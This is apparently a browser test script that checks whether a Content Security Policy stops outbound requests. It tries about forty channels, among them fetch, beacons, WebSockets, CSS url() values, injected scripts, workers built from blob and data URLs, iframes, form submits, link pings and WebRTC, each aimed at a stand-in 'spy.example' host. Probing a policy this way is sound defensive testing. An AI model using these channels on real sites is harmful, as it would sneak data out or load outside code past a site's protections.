// Everything a script can try, each for a host named after it. Runs in Chromium 71 too.
// The one argument is the sink's own address, for what asks it directly.
window.stopped = [];
window.refused = {};
addEventListener('securitypolicyviolation', it => stopped.push(it.effectiveDirective));

const attempt = (name, what) => {
  const refuse = error => { refused[name] = String(error); };
  try {
    const answer = what('http://' + name + '.spy.example/x');
    if (answer && answer.catch) answer.catch(refuse);
  } catch (error) {
    refuse(error);
  }
};
const add = (kind, fields) => document.body.appendChild(Object.assign(document.createElement(kind), fields));

attempt('fetch', url => fetch(url));
attempt('fetch-keepalive', url => fetch(url, { mode: 'no-cors', keepalive: true }));
attempt('fetch-own', () => fetch('/spy-fetch'));
attempt('xhr', url => { const it = new XMLHttpRequest(); it.open('POST', url); it.send('x'); });
attempt('beacon', url => { navigator.sendBeacon(url, 'x'); });
attempt('beacon-own', () => { navigator.sendBeacon('/spy-beacon', 'x'); });
attempt('websocket', url => { new WebSocket(url.replace('http', 'ws')); });
attempt('eventsource', url => { new EventSource(url); });
attempt('webtransport', () => {
  const it = new WebTransport('https://webtransport.spy.example/x');
  it.closed.catch(() => {});
  return it.ready;
});
attempt('image', url => { new Image().src = url; });
attempt('image-own', () => { new Image().src = '/spy-image'; });
attempt('audio', url => new Audio(url).play());
attempt('font', url => new FontFace('spy', 'url(' + url + ')').load());
attempt('style-property', url => { document.body.style.backgroundImage = 'url(' + url + ')'; });
attempt('style-rule', url => { document.styleSheets[0].insertRule('body { background: url(' + url + ') }', 0); });
attempt('style-sheet', url => {
  const it = new CSSStyleSheet();
  it.replaceSync('h1 { background: url(' + url + ') }');
  document.adoptedStyleSheets = [it];
});
attempt('style-element', url => { add('style', { textContent: 'h1 { display: none; background: url(' + url + ') }' }); });
attempt('markup', url => { add('div', { innerHTML: '<img src="' + url + '">' }); });
attempt('script', url => { add('script', { src: url }); });
attempt('script-inline', () => { add('script', { textContent: 'window.ran = true' }); });
attempt('script-own', () => { add('script', { src: '/spy-script.js' }); });
attempt('import', url => eval('import("' + url + '")'));
attempt('worker', url => { new Worker(url); });
attempt('worker-own', () => { new Worker('/spy-worker.js'); });
attempt('worker-blob', url => { new Worker(URL.createObjectURL(new Blob(['importScripts("' + url + '")']))); });
attempt('worker-data', url => { new Worker('data:text/javascript,importScripts("' + url + '")'); });
attempt('worker-shared', () => { new SharedWorker('/spy-shared-worker.js'); });
attempt('service-worker', () => navigator.serviceWorker.register('/spy-service-worker.js'));
attempt('frame', url => { add('iframe', { src: url }); });
attempt('frame-own', url => {
  const inside = add('iframe', {}).contentWindow;
  inside.document.body.appendChild(Object.assign(inside.document.createElement('img'), { src: url }));
  return inside.fetch(url);
});
attempt('object', url => { add('object', { data: url }); });
attempt('link-prefetch', url => { add('link', { rel: 'prefetch', href: url }); });
attempt('form', url => { add('form', { action: url }).submit(); });
attempt('ping', url => { add('a', { href: '#ping', ping: url }).click(); });
attempt('webrtc', () => {
  const it = window.spy = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + arguments[0] }] });
  it.createDataChannel('x');
  return it.createOffer().then(offer => it.setLocalDescription(offer));
});
